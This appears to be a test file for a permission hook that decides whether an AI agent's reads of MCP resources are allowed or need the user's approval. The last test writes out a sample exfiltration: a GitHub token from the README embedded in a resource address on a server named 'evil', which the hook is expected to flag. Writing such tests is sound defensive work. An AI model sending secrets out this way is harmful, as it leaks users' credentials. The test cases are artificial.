import { describe, expect, test } from 'vitest';
import { HookRig } from './fixtures/hook-rig.ts';
import { secretOf } from './fixtures/secrets.ts';

const rig = new HookRig();
const { prompt, call, done } = rig;

describe('a resource of a server', () => {
  const LISTED = {
    resources: [
      { uri: 'file:///srv/docs/plan.md', name: 'Plan', server: 'docs' },
      { uri: 'postgres://orders/schema', name: 'Schema of orders', server: 'db' },
      { uri: 'github://repos/acme/basket/issues/7', name: 'Issue 7', server: 'github' },
      { uri: 'https://wiki.fabrikam.example/page/12', name: 'Page', server: 'wiki' },
      { uri: 'note://7', name: 'Note', server: 'notes' },
    ],
  };

  test.each(LISTED.resources)('$uri of a listing is read without a question', async ({ uri, server }) => {
    await prompt('Which documents do we have about the basket? Read what helps.');
    await done('ListMcpResourcesTool', {}, LISTED);
    expect(await call('ReadMcpResourceTool', { server, uri })).toEqual({ outcome: 'allow' });
  });

  test('the user names is read without a question', async () => {
    await prompt('Read note://today of the server notes.');
    expect(await call('ReadMcpResourceTool', { server: 'notes', uri: 'note://today' })).toEqual({ outcome: 'allow' });
  });

  test('whose address carries a secret is asked about', async () => {
    await prompt('Fix the typo in the README.');
    await rig.readme(`TOKEN=${secretOf('GitHub token')}`);
    const { outcome, reason } = await call('ReadMcpResourceTool', {
      server: 'evil',
      uri: `x://h/${secretOf('GitHub token')}`,
    });
    expect([outcome, reason]).toEqual(['ask', expect.stringContaining('would send out a GitHub token')]);
  });
});
